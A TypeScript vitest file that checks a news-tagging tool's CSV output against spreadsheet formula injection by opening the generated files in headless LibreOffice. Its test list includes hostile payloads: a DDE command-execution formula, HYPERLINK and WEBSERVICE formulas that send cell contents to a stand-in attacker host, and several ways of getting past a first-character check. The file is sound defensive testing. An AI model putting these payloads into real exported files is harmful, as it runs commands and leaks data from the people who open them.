import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { articlesCsv } from '../../src/write/articles.ts';
import { csvLines } from '../../src/write/csv.ts';
import { rejectedColumns, rejectedLines } from '../../src/write/rejected.ts';
import { tagsCsv } from '../../src/write/tags.ts';
import { entity, tagged, topic } from '../write/tagged.ts';

const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(existsSync);
if (!soffice)
  console.warn('SKIPPED: formulas in a spreadsheet need LibreOffice (apt-get install libreoffice-calc-nogui)');

/** What spreadsheets compute, run or send, and the ways round a plain check of the first character. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  '=WEBSERVICE("http://evil.example/")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1',
  '=1+1";=1+1',
  '＝1+1',
  '\ufeff=1+1',
  "'=1+1",
  '{=1+1}',
  '=1+1\r\n=1+1',
];

/** LibreOffice's CSV filter, as it opens a file by itself, and with all that computes switched on: numbers detected, formulas evaluated. */
const filters = [
  '44,34,76,1',
  '44,34,76,1,,0,false,true,false,false,false,-1,true',
  '59,34,76,1,,0,false,true,false,false,false,-1,true',
];

/** How many cells of a CSV hold a formula once it is opened. */
function computing(csv: string, filter: string): number {
  const folder = mkdtempSync(join(tmpdir(), 'slugline-formulas-'));
  writeFileSync(join(folder, 'a.csv'), csv);
  const office = [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    `--infilter=Text - txt - csv (StarCalc):${filter}`,
  ];
  execFileSync(soffice!, [...office, '--convert-to', 'fods', '--outdir', folder, join(folder, 'a.csv')], {
    stdio: 'pipe',
  });
  const sheet = readFileSync(join(folder, 'a.fods'), 'utf8');
  expect(sheet).toContain('table:table-row');
  return sheet.match(/table:formula=/g)?.length ?? 0;
}

async function everyCsv(): Promise<[string, string][]> {
  const articles = formulas.map((formula) =>
    tagged({
      id: formula,
      source: formula,
      url: formula,
      title: formula,
      published: formula,
      error: formula,
      duplicateOf: formula,
      text: `${formula}\nmore`,
      topics: [
        topic({
          id: formula,
          label: formula,
          path: [formula, formula],
          evidence: [{ kind: 'phrase', value: formula, start: 0, end: formula.length, weight: 1 }],
        }),
      ],
      entities: [
        entity({ id: formula, name: formula, type: 'person', mentions: [{ start: 0, end: formula.length }] }),
        entity({ id: formula, name: formula }),
      ],
    }),
  );
  const rejections = formulas.map((formula) => ({
    source: formula,
    position: formula,
    reason: formula,
    hint: formula,
  }));
  return [
    ['articles.csv', (await csvLines([articlesCsv.columns!])) + (await articlesCsv.lines(articles))],
    ['tags.csv', (await csvLines([tagsCsv.columns!])) + (await tagsCsv.lines(articles))],
    ['rejected.csv', (await csvLines([rejectedColumns])) + (await rejectedLines(rejections))],
    ['one cell a line', await csvLines(formulas.map((formula) => [formula]))],
  ];
}

describe.skipIf(!soffice)('CSVs opened in LibreOffice', () => {
  test('the check sees a cell that computes', () => {
    expect(computing('a,b\n=1+1,2\n', filters[1]!)).toBe(1);
  }, 120_000);

  test.each(filters)(
    'no cell computes, read with %s',
    async (filter) => {
      for (const [name, csv] of await everyCsv()) expect(computing(csv, filter), name).toBe(0);
    },
    300_000,
  );
});
